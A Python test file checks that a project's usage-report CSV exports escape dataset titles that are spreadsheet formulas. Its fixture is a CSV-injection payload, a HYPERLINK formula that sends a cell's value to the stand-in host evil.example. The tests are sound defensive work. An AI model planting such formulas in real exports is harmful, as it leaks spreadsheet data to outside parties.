"""Formulas neutralised in the usage CSVs (issue 18, item 4): the site's `uso/uso.csv` and
`datos-cali usage report --csv`. A dataset's title comes from the catalog, which quotes what an
organismo wrote; a spreadsheet must show it, not run it."""

from __future__ import annotations

import csv
import datetime as dt
import io

from datos_cali.catalog import load_catalog
from datos_cali.ledger import open_ledger
from datos_cali.reportsite import build_site
from datos_cali.settings import paths
from datos_cali.usage import UsageStore
from datos_cali.usage import site as usage_site
from tests.cli.conftest import cli  # noqa: F401  (the CLI runner fixture)
from tests.usage.conftest import reading

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"ver")'
NOW = dt.datetime(2022, 2, 3, 15, tzinfo=dt.UTC)


def _usage(office):
    office.add_to("planeacion", "imae-formula", title=HOSTILE)
    with open_ledger() as ledger:
        UsageStore(ledger).add([reading("2022-01-15", 31, 9, dataset="imae-formula")])


def _names(text: str) -> set[str]:
    return {row["nombre"] for row in csv.DictReader(io.StringIO(text))}


def test_the_site_csv_neutralises_a_title_that_is_a_formula(office, tmp_path):
    _usage(office)
    with open_ledger() as ledger:
        build_site(
            tmp_path / "sitio",
            ledger=ledger,
            catalog=load_catalog(paths().catalog),
            now=NOW,
            providers=(usage_site.pages,),
        )
    text = (tmp_path / "sitio" / "uso" / "uso.csv").read_text(encoding="utf-8-sig")
    assert "'" + HOSTILE in _names(text) and HOSTILE not in _names(text)
    rows = list(csv.DictReader(io.StringIO(text)))
    assert {r["visitas"] for r in rows if r["agrupacion"] == "conjunto"} == {"31"}  # numbers stay


def test_usage_report_csv_neutralises_a_title_that_is_a_formula(office, cli):  # noqa: F811
    _usage(office)
    printed = cli("usage", "report", "--csv")
    assert printed.exit_code == 0
    assert "'" + HOSTILE in _names(printed.stdout) and HOSTILE not in _names(printed.stdout)
